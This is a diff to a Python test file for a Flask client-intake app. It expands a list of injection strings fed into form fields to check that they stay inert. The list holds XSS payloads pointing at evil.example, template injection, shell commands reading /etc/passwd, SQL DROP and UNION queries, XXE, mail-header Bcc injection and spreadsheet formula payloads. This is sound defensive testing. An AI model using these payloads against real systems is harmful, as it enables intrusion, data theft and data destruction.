@@ -23,28 +23,72 @@ from tests.web.phone import Phone, intake_of, phone, soon, stored
 
 MARK = "zq7331"
 STRINGS = [
+    # elements and attributes
     f"<script>{MARK}()</script>",
+    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
     f"<img src=x onerror={MARK}()>",
     f'"><svg onload={MARK}()>',
     f"' onfocus='{MARK}()' autofocus='",
+    f'" onmouseover="{MARK}()" x="',
+    f"` onclick=`{MARK}()`",
     f"</title><h1>{MARK}</h1>",
     f"</textarea><iframe src=javascript:{MARK}()>",
+    f"</script><script>{MARK}()</script>",
+    f"</style><style>@import '//evil.example/{MARK}'</style>",
     f"<a href=javascript:{MARK}()>x</a>",
+    f"javascript:{MARK}()",
+    f"data:text/html,<b>{MARK}</b>",
+    f"<base href=//evil.example/{MARK}>",
+    f"<meta http-equiv=refresh content=0;//evil.example/{MARK}>",
+    f"<form action=//evil.example/{MARK}><button>",
+    f"<object data={MARK}><embed src={MARK}>",
+    f"<!--{MARK}--><![CDATA[{MARK}]]>",
+    f"<math><mi xlink:href=javascript:{MARK}()>",
+    f"&lt;b&gt;{MARK}&#60;/b&#62;",
+    f"&#x3c;img src={MARK}&#x3e;",
+    f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
+    f"%3Cscript%3E{MARK}%3C/script%3E",
+    f"\\u003cimg src={MARK}\\u003e",
+    f"https://evil.example/{MARK}",
+    f"[{MARK}](https://evil.example)",
+    # templates, typesetting, shells, databases, files
     f"{{{{ 7331 * 7 }}}} {MARK}",
+    f"{{{{ config.items() }}}} {MARK}",
     f"{{% include '/etc/passwd' %}} {MARK}",
+    f"{{# {MARK} #}}",
     f"${{7331*7}} #{{7331*7}} {MARK}",
+    f"<%= 7331*7 %> {MARK}",
+    f"%(secret_key)s {{0.__class__}} {MARK}",
     f'#read("/etc/passwd") {MARK}',
+    f'#eval("7331*7") $ {MARK} $',
+    f"*{MARK}* _x_ `y` <label> @ref",
+    f"\\input{{/etc/passwd}} {MARK}",
     f"$(id) `id` ; {MARK}",
+    f"| cat /etc/passwd & {MARK}",
     f"' OR 1=1; DROP TABLE intakes; -- {MARK}",
+    f'" UNION SELECT secret FROM connections -- {MARK}',
     f"../../../../etc/passwd {MARK}",
+    f"file:///etc/passwd#{MARK}",
+    f"<!ENTITY x SYSTEM 'file:///etc/passwd'> {MARK}",
+    # mail headers, log lines, tables
     f"a\r\nBcc: {MARK}@evil.example\r\n\r\nx",
+    f"a\nSubject: {MARK}",
+    f"a%0d%0aBcc:{MARK}@evil.example",
+    f"=?utf-8?q?{MARK}=0ABcc:_x=40evil.example?=",
+    f'{{"level": "info"}}\n{{"message": "{MARK}"}}',
+    f'=HYPERLINK("https://evil.example/{MARK}")',
+    f"+cmd|' /C calc'!A0 {MARK}",
+    f"@SUM(1,1) {MARK}",
+    # characters
     f"\u202e{MARK}\u2066",
     f"\x00{MARK}\x1b[31m",
-    f'=HYPERLINK("https://evil.example/{MARK}")',
-    f"&lt;b&gt;{MARK}&#60;/b&#62;",
+    f"\ufeff\u200b{MARK}\u2028x",
     f"{MARK}" + "\u0301" * 40,
 ]
 TYPED = (QuestionType.TEXT, QuestionType.LONGTEXT)
+NOT_ASKED = ("full_name", "guardian_name", "allergy_text")  # of Zoë, who is grown up and has no allergy
+AT_ONCE = 12  # fields that she types into
+ON_A_FILE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 
 
 class Parsed(HTMLParser):
@@ -90,18 +134,19 @@ def hers(app: Flask, house: House, booking: Thread) -> Phone:
     return phone(app, house, LinkPurpose.intake, booking.id)
 
 
-@pytest.mark.parametrize("shift", range(0, len(STRINGS), 5))
+@ON_A_FILE
+@pytest.mark.parametrize("shift", range(0, len(STRINGS), AT_ONCE))
 def test_what_a_client_types_stays_text_on_every_page_and_in_every_mail(
     app: Flask, house: House, booking: Thread, hers: Phone, mailbox: Mailbox, shift: int
 ) -> None:
     asked = library().questionnaires["first_visit"].questions()
-    fields = [question for question in asked if question.type in TYPED]
-    texts = (STRINGS[shift:] + STRINGS[:shift]) * len(fields)
-    typed = {question.id: text[: question.max_length] for question, text in zip(fields, texts, strict=False)}
+    fields = [each for each in asked if each.type in TYPED and each.id not in NOT_ASKED]
+    texts = (STRINGS[shift:] + STRINGS[:shift])[:AT_ONCE]
+    typed = {question.id: text[: question.max_length] for question, text in zip(fields, texts, strict=True)}
     sent = hers.fill_in({**TAPPED, **typed, "act2_score": "5", "act3_score": "5"})
     assert_harmless(sent.text)
     assert intake_of(house, booking).done
-    assert any(MARK in json.dumps(value) for value in stored(house, booking).values())
+    assert {name for name in typed if MARK in json.dumps(stored(house, booking).get(name))} == set(typed)
     with house.db.begin() as tx:
         drafted = plans.newest(tx, booking.id)
         assert drafted is not None
@@ -123,7 +168,7 @@ def test_what_is_typed_is_shown_again_as_text_beside_an_error(hers: Phone) -> No
 
 
 @pytest.mark.parametrize(
-    "text", [STRINGS[0], STRINGS[3], STRINGS[16]], ids=["element", "attribute", "control"]
+    "text", [STRINGS[0], STRINGS[4], STRINGS[-3]], ids=["element", "attribute", "control"]
 )
 def test_no_choice_takes_what_it_does_not_offer(
     house: House, booking: Thread, hers: Phone, text: str
@@ -139,6 +184,7 @@ def test_no_choice_takes_what_it_does_not_offer(
     assert not [name for name in chosen if MARK in json.dumps(kept.get(name, ""))]
 
 
+@ON_A_FILE
 def test_a_name_from_the_scheduler_stays_text(app: Flask, house: House, mailbox: Mailbox) -> None:
     now = datetime.now(UTC)
     for number, text in enumerate(STRINGS):
